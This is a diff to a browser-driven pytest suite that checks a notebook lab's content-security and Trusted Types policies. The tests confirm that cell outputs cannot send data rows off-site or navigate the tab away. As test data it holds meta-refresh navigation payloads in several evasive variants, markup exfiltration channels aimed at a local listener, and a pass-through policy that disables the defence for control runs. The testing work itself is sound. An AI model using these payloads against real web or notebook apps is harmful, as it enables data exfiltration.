@@ -11,7 +11,14 @@ the listener receives every one of them, so what stops them in the workspace is 
 not this browser or this machine. Then they are tried from the lab's cell outputs, by a
 script evaluated in the lab page (one that got past script-src), and by a page a server
 of bob's own answers on a Dask dashboard path. The lab must keep working: a cell runs,
-its output shows, the notebook saves, the dashboard draws.
+its output and a DataFrame's table show, the notebook saves, the dashboard draws.
+
+No CSP directive governs navigation: an HTML output with a `<meta http-equiv="refresh">`
+would take the whole tab, rows in the URL, to another site. The lab page's Trusted Types
+default policy (hub/singleuser/trusted_types.py) removes such elements from every HTML
+string the page renders; the same outputs are first shown to navigate the tab when that
+policy is replaced by one that lets everything through, and the lab is shown to render
+nothing when the policy's script does not load.
 """
 
 from __future__ import annotations
@@ -27,6 +34,7 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 
 from hub.policy.server import free_port
+from hub.singleuser import trusted_types
 from hub.singleuser.csp import DASHBOARD_POLICY, WORKSPACE_POLICY
 from tests.fixtures.hub import PASSWORDS
 from tests.fixtures.web import running_chromium
@@ -71,6 +79,25 @@ MARKUP = """
 <embed src="{listener}/html-embed?{tag}">
 """
 MARKUP_CHANNELS = ("html-img", "html-iframe", "html-css", "html-prefetch", "html-font", "html-bg", "html-video", "html-object", "html-embed")
+
+# Outputs that would navigate the tab to {listener}/<name>, rows in the URL, without a
+# script: each a cell of its own, showing "shown-<name>" once rendered.
+NAVIGATIONS = {
+    "meta": 'display(HTML(\'<p>shown-meta</p><meta http-equiv="refresh" content="0;url={url}">\'))',
+    "upper": 'display(HTML(\'<P>shown-upper</P><META HTTP-EQUIV="REFRESH" CONTENT="0;URL={url}">\'))',
+    "svg": 'display(HTML(\'<p>shown-svg</p><svg><meta http-equiv="refresh" content="0;url={url}"/></svg>\'))',
+    "update": (  # update_display_data: the refresh arrives in an update of a shown output
+        "shown = display(HTML('<p>waiting</p>'), display_id=True)\n"
+        'shown.update(HTML(\'<p>shown-update</p><meta http-equiv="refresh" content="0;url={url}">\'))'
+    ),
+    "markdown": 'display(Markdown(\'shown-markdown <meta http-equiv="refresh" content="0;url={url}">\'))',
+}
+# A markdown cell: the lab's own sanitizer already drops the <meta> there (measured: it
+# does not navigate even without the default policy), so it is attacked but has no control.
+MARKDOWN_CELL = ("mdcell", 'shown-mdcell <meta http-equiv="refresh" content="0;url={url}">')
+IMPORTS = "from IPython.display import HTML, Markdown, display"
+# The default policy replaced by one that lets everything through, for the controls.
+PASS_THROUGH = "trustedTypes.createPolicy('default', {createHTML: s => s, createScript: s => s, createScriptURL: s => s});"
 
 # Records the page's policy violations (runs in every frame before the page's own scripts).
 VIOLATIONS = """
@@ -225,9 +252,11 @@ def violations(page) -> list[dict]:
     return page.evaluate("window.__violations")
 
 
-def new_notebook(bob, name: str, sources: list[str]) -> None:
-    """Write notebook `name` in bob's home through the contents API."""
+def new_notebook(bob, name: str, sources: list[str], markdown: tuple[str, ...] = ()) -> None:
+    """Write notebook `name` in bob's home through the contents API: a code cell per source,
+    then a markdown cell per `markdown`."""
     cells = [{"cell_type": "code", "source": s, "metadata": {}, "outputs": [], "execution_count": None} for s in sources]
+    cells += [{"cell_type": "markdown", "source": s, "metadata": {}} for s in markdown]
     content = {
         "cells": cells,
         "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3 (campus)", "language": "python"}},
@@ -238,9 +267,10 @@ def new_notebook(bob, name: str, sources: list[str]) -> None:
     assert response.status_code in (200, 201), response.text
 
 
-def open_lab(context, campus_hub, name: str):
-    """bob's lab with notebook `name` open and its kernel idle; the page's violations cleared."""
-    page = context.new_page()
+def open_lab(context, campus_hub, name: str, page=None):
+    """bob's lab with notebook `name` open (in `page`, else a new one) and its kernel idle;
+    the page's violations cleared."""
+    page = page or context.new_page()
     page.goto(f"{campus_hub.url}/user/bob/lab/tree/{name}")
     page.wait_for_selector(".jp-Notebook .jp-Cell .cm-content")
     page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=120_000)
@@ -249,12 +279,23 @@ def open_lab(context, campus_hub, name: str):
     return page
 
 
-def run_all(page, last_output: str):
-    """Run every cell from the Run menu; wait for `last_output` in the last cell."""
+def allow_leaving(page) -> list[str]:
+    """Accept every dialog of `page`, and return the list of those seen. Playwright dismisses
+    dialogs by default, and the lab asks before leaving a notebook with unsaved changes
+    (beforeunload): dismissed, that prompt alone would keep the tab here. A beforeunload
+    prompt means the page started to leave."""
+    seen = []
+    page.on("dialog", lambda dialog: (seen.append(dialog.type), dialog.accept()))
+    return seen
+
+
+def run_all(page, last_output: str | None):
+    """Run every cell from the Run menu; wait for `last_output` in the last cell (if any)."""
     page.click(".jp-Notebook .jp-Cell .cm-content")
     page.get_by_role("menuitem", name="Run", exact=True).click()
     page.get_by_role("menuitem", name=re.compile(r"^Run All Cells")).click()
-    page.locator(".jp-OutputArea-output", has_text=last_output).wait_for(timeout=120_000)
+    if last_output is not None:
+        page.locator(".jp-OutputArea-output", has_text=last_output).wait_for(timeout=120_000)
 
 
 # --- the control: the same payloads from a page without the policy --------------------
@@ -305,16 +346,33 @@ def test_dashboard_answers_carry_the_campus_policy_not_the_upstreams(bob):
 # --- the lab under the policy ----------------------------------------------------------
 
 
+def test_the_lab_page_loads_the_default_policy_before_its_own_scripts(bob):
+    page = bob.server("GET", "lab").text
+    first = re.search(r"<script[^>]*>.*?</script>", page, re.DOTALL).group(0)
+    assert first == trusted_types.script_tag("/user/bob/").decode()
+    assert page.index(first) < page.index("<meta charset")
+    script = bob.server("GET", f"campus/{trusted_types.SCRIPT}?v={trusted_types.VERSION}")
+    assert script.status_code == 200 and "javascript" in script.headers["Content-Type"]
+    assert 'createPolicy("default"' in script.text
+
+
 def test_lab_runs_a_cell_and_saves_under_the_policy(context, campus_hub, bob):
-    new_notebook(bob, "works.ipynb", ["print(6 * 7)"])
+    new_notebook(bob, "works.ipynb", [
+        "import pandas as pd\npd.DataFrame({'district': ['Jongno', 'Jung'], 'total': [10, 20]})",
+        "print(6 * 7)",
+    ])
     page = open_lab(context, campus_hub, "works.ipynb")
     run_all(page, "42")
+    # a DataFrame's HTML renders as a table (it goes through the default policy unchanged)
+    table = page.locator(".jp-OutputArea-output table.dataframe")
+    assert table.locator("tbody tr").count() == 2
+    assert table.locator("th", has_text="district").count() == 1
     page.keyboard.press("Control+s")
     deadline = time.monotonic() + 30
     outputs = []
     while time.monotonic() < deadline and not outputs:
         saved = bob.server("GET", "api/contents/works.ipynb").json()
-        outputs = saved["content"]["cells"][0]["outputs"]
+        outputs = saved["content"]["cells"][1]["outputs"]
         time.sleep(0.5)
     assert outputs and outputs[0]["text"] == "42\n"
     assert violations(page) == []
@@ -356,9 +414,12 @@ def test_cell_outputs_cannot_send_rows_elsewhere(context, campus_hub, bob, liste
     # the <script> and the onerror= handler never ran…
     assert {"script-src-elem", "script-src-attr"} <= directives, seen
     # …and the markup was refused by the directive that governs each load (Chrome names
-    # only the origin for frames and objects)
+    # only the origin for frames and objects); the <link>s (stylesheet, prefetch) never
+    # reach the page: the default policy removes them (style-src and default-src would
+    # refuse them, as they did before it)
     refused = {v["directive"] for v in seen if v["blocked"].startswith(listener.url)}
-    assert refused == {"img-src", "frame-src", "style-src-elem", "font-src", "media-src", "object-src", "default-src"}
+    assert refused == {"img-src", "frame-src", "font-src", "media-src", "object-src"}
+    assert page.locator(".jp-OutputArea-output link").count() == 0
     # The Javascript output is not evaluated: the lab's Javascript renderer is disabled.
     assert page.locator(".jp-OutputArea-output", has_text="JavaScript output is disabled").count() == 1
     page.close()
@@ -406,21 +467,69 @@ def test_a_page_on_a_dashboard_path_cannot_open_a_window(context, campus_hub, bo
     page.close()
 
 
-# --- what remains (docs/sandbox.md) ------------------------------------------------------
+# --- navigation: the Trusted Types default policy ----------------------------------------
 
 
-def test_what_remains_an_output_can_navigate_the_tab_elsewhere(context, campus_hub, bob, listener):
-    """No policy directive governs navigation: a refresh in an HTML output takes the tab, with
-    what fits in a URL, to another site. Stated in docs/sandbox.md; kept here so it stays known."""
+def navigation_url(listener: Listener, name: str, tag: str) -> str:
+    return f"{listener.url}/{name}?{tag}&{MARKER}"
+
+
+@pytest.mark.parametrize("name", NAVIGATIONS)
+def test_control_an_output_navigates_the_tab_without_the_default_policy(context, campus_hub, bob, listener, name):
+    """The same lab and policy, the default policy replaced by a pass-through one: the output
+    takes the tab, rows in the URL, to the listener."""
+    tag = f"control-nav-{name}-" + uuid.uuid4().hex[:6]
+    new_notebook(bob, f"navigate-{name}.ipynb", [IMPORTS, NAVIGATIONS[name].format(url=navigation_url(listener, name, tag))])
+    page = context.new_page()
+    page.route(f"**/campus/{trusted_types.SCRIPT}*", lambda route: route.fulfill(body=PASS_THROUGH, content_type="text/javascript"))
+    allow_leaving(page)
+    try:
+        open_lab(context, campus_hub, f"navigate-{name}.ipynb", page=page)
+        run_all(page, None)
+        page.wait_for_url(f"{listener.url}/**", timeout=120_000)
+    finally:
+        page.close()
+    assert listener.received(tag) == {name}
+
+
+def test_an_output_cannot_navigate_the_tab_elsewhere(context, campus_hub, bob, listener):
+    """Every output of the controls, and a markdown cell, in one notebook: once all are shown,
+    and long after a refresh of 0 s would have fired, the tab is still on the campus."""
     tag = "navigate-" + uuid.uuid4().hex[:6]
-    new_notebook(bob, "navigate.ipynb", [
-        "from IPython.display import HTML\n"
-        f"HTML('<meta http-equiv=\"refresh\" content=\"0;url={listener.url}/meta?{tag}&{MARKER}\">')",
-    ])
+    cells = [IMPORTS, *(source.format(url=navigation_url(listener, name, tag)) for name, source in NAVIGATIONS.items())]
+    cell_name, cell_source = MARKDOWN_CELL
+    new_notebook(bob, "navigate.ipynb", [*cells, "print('DONE-' + 'navigate')"],
+                 markdown=(cell_source.format(url=navigation_url(listener, cell_name, tag)),))
     page = open_lab(context, campus_hub, "navigate.ipynb")
-    page.click(".jp-Notebook .jp-Cell .cm-content")
-    page.keyboard.press("Shift+Enter")
-    page.wait_for_url(f"{listener.url}/**")
-    assert listener.received(tag) == {"meta"}
+    dialogs = allow_leaving(page)  # so that only the policy could keep the tab here
+    lab = page.url
+    run_all(page, "DONE-navigate")
+    for name in [*NAVIGATIONS, cell_name]:
+        page.locator(".jp-RenderedHTMLCommon").get_by_text(f"shown-{name}").wait_for(timeout=60_000)
+    settle(5)
+    assert page.url == lab
+    assert dialogs == []  # the page never even started to leave
+    assert listener.received(tag) == set()
+    assert page.evaluate("document.querySelectorAll('meta[http-equiv], base').length") == 0
+    assert violations(page) == []  # removed by the default policy, nothing refused
     page.close()
 
+
+def test_without_the_default_policy_the_lab_renders_no_html(context, campus_hub, bob, listener):
+    """Fail closed: when the policy's script does not load, every sink throws (the lab does not
+    start) instead of rendering HTML unchecked."""
+    page = context.new_page()
+    page.route(f"**/campus/{trusted_types.SCRIPT}*", lambda route: route.abort())
+    try:
+        page.goto(f"{campus_hub.url}/user/bob/lab/tree/works.ipynb")
+        page.wait_for_function("window.__violations.some(v => v.directive === 'require-trusted-types-for')", timeout=60_000)
+        refused = page.evaluate("""url => {
+          try { document.body.innerHTML = '<meta http-equiv="refresh" content="0;url=' + url + '">'; return null; }
+          catch (e) { return e.message; }
+        }""", f"{listener.url}/fail-open?closed")
+        settle(2)
+        assert "requires 'TrustedHTML' assignment" in refused
+        assert page.locator(".jp-OutputArea-output").count() == 0
+        assert listener.received("closed") == set()
+    finally:
+        page.close()
